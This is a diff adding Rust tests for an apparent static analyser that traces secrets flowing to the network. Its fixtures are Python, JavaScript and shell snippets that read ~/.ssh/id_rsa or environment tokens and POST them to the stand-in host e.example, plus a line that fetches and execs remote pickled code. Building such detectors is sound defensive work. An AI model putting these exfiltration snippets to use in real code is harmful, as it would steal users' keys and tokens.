@@ -297,6 +297,104 @@ fn bash() {
 }
 
 #[test]
+fn what_one_turn_leaves_the_next_one_finds() {
+    let flow = "credential_file ~/.ssh/id_rsa -> network_send e.example";
+    py(
+        "import os, requests\ndata = ''\nwhile True:\n    requests.post('https://e.example', data=data)\n    data = open('~/.ssh/id_rsa').read()",
+        flow,
+    );
+    py(
+        "import requests\nparts = []\nfor f in ['~/.ssh/id_rsa', 'x']:\n    parts.append(open(f).read())\nrequests.post('https://e.example', data='\\n'.join(parts))",
+        flow,
+    );
+    py(
+        "import requests\nfound = {}\ndef walk():\n    for f in ['~/.ssh/id_rsa']:\n        found[f] = open(f).read()\nwalk()\nrequests.post('https://e.example', json=found)",
+        flow,
+    );
+    js(
+        "let buf = '';\nfor (const f of [process.env.HOME + '/.ssh/id_rsa']) { fetch('https://e.example', {method: 'POST', body: buf}); buf += require('fs').readFileSync(f); }",
+        flow,
+    );
+    sh("while true; do curl -d \"$d\" https://e.example; d=$(cat ~/.ssh/id_rsa); sleep 9; done", flow);
+    // A handler that sends what a later one gathers.
+    py(
+        "import requests\nbuf = []\ndef flush():\n    requests.post('https://e.example', data=str(buf))\ndef gather():\n    buf.append(open('~/.ssh/id_rsa').read())",
+        flow,
+    );
+}
+
+#[test]
+fn functions_of_every_kind() {
+    let flow = "credential_file ~/.ssh/id_rsa -> network_send e.example";
+    let read = "import requests\nKEY = '~/.ssh/id_rsa'\n";
+    for code in [
+        "def send(url='https://e.example', data=open(KEY).read()):\n    requests.post(url, data=data)\nsend()",
+        "def send(*parts):\n    requests.post('https://e.example', data=parts[0])\nsend(open(KEY).read())",
+        "def send(**options):\n    requests.post('https://e.example', data=options['d'])\nsend(d=open(KEY).read())",
+        "def send(a, b):\n    requests.post('https://e.example', data=b)\nargs = ['x', open(KEY).read()]\nsend(*args)",
+        "def send(url, data):\n    requests.post(url, data=data)\nsend(**{'url': 'https://e.example', 'data': open(KEY).read()})",
+        "def lines():\n    yield 'x'\n    yield open(KEY).read()\nfor l in lines():\n    requests.post('https://e.example', data=l)",
+        "def outer():\n    k = open(KEY).read()\n    def inner():\n        requests.post('https://e.example', data=k)\n    return inner\nouter()()",
+        "def outer():\n    k = open(KEY).read()\n    def inner():\n        requests.post('https://e.example', data=k)\n    schedule.every(5).do(inner)",
+        "import threading\ndef send(d):\n    requests.post('https://e.example', data=d)\nthreading.Thread(target=send, args=(open(KEY).read(),)).start()",
+        "try:\n    k = open(KEY).read()\nexcept OSError:\n    k = ''\nfinally:\n    requests.post('https://e.example', data=k)",
+        "async def go():\n    async with aiohttp.ClientSession() as s:\n        await s.post('https://e.example', data=open(KEY).read())\nimport aiohttp",
+        "class A:\n    URL = 'https://e.example'\n    def go(self):\n        requests.post(self.URL, data=open(KEY).read())",
+        "class A:\n    def __init__(self):\n        self.k = open(KEY).read()\na = A()\nrequests.post('https://e.example', data=a.k)",
+        "TOKEN = None\ndef load():\n    global TOKEN\n    TOKEN = open(KEY).read()\nload()\nrequests.post('https://e.example', data=TOKEN)",
+        "d = {k: open(k).read() for k in [KEY]}\nrequests.post('https://e.example', json=d)",
+    ] {
+        py(&format!("{read}{code}"), flow);
+    }
+    let read =
+        "const fs = require('fs'); const key = () => fs.readFileSync(process.env.HOME + '/.ssh/id_rsa', 'utf8');\n";
+    for code in [
+        "const send = (d = key()) => fetch('https://e.example', {method: 'POST', body: d});\nsend();",
+        "function send(...all) { fetch('https://e.example', {body: all[0]}); }\nsend(key());",
+        "fs.promises.readFile(process.env.HOME + '/.ssh/id_rsa').then(k => fetch('https://e.example', {body: k}));",
+        "setInterval(d => fetch('https://e.example', {body: d}), 1000, key());",
+        "class A { k = key(); go() { fetch('https://e.example', {body: this.k}); } }",
+        "function make() { const k = key(); return { go: () => fetch('https://e.example', {body: k}) }; }\nmake().go();",
+        "const req = require('https').request({hostname: 'e.example', method: 'POST'}, r => {});\nreq.on('error', e => {});\nreq.write(key());",
+        "function* all() { yield key(); }\nfor (const k of all()) fetch('https://e.example', {body: k});",
+    ] {
+        js(&format!("{read}{code}"), flow);
+    }
+}
+
+#[test]
+fn classes_keep_their_members_apart() {
+    py(
+        "import requests\nclass Vault:\n    def __init__(self):\n        self.data = open('~/.ssh/id_rsa').read()\nclass Report:\n    def __init__(self, rows):\n        self.data = 'rows'\n    def send(self):\n        requests.post('https://e.example', data=self.data)",
+        "!credential_file",
+    );
+}
+
+#[test]
+fn secrets_that_travel_together() {
+    py(
+        "import os, json\np = json.dumps({'A': os.environ['GITHUB_TOKEN'], 'B': os.environ['SLACK_TOKEN']})",
+        "key_bundle GITHUB_TOKEN, SLACK_TOKEN -> bundle",
+    );
+    py(
+        "import os, json\np = json.dumps({'A': os.environ['AWS_SECRET_ACCESS_KEY'], 'B': os.environ['AWS_SESSION_TOKEN']})",
+        "!key_bundle",
+    );
+    py(
+        "import os, socket\ns = socket.socket()\ns.sendall(os.getenv('TOKEN').encode())",
+        "environment_key TOKEN -> raw_send",
+    );
+    py(
+        "import os, socket\ns = socket.socket()\ns.sendall(b'PASS ' + os.getenv('TOKEN').encode())",
+        "!environment_key TOKEN -> raw_send",
+    );
+    py(
+        "import pickle, urllib.request\nexec(pickle.loads(urllib.request.urlopen('https://e.example/p').read()))",
+        "remote_content e.example -> eval\nremote_content e.example -> deserialise",
+    );
+}
+
+#[test]
 fn tools_that_run_what_they_are_told() {
     py("import subprocess, sys\nsubprocess.run(sys.argv[1], shell=True)", "!user_input sys.argv -> shell");
     py("import sqlite3, sys\nsqlite3.connect('a').execute(sys.argv[1])", "!user_input sys.argv -> sql_query");
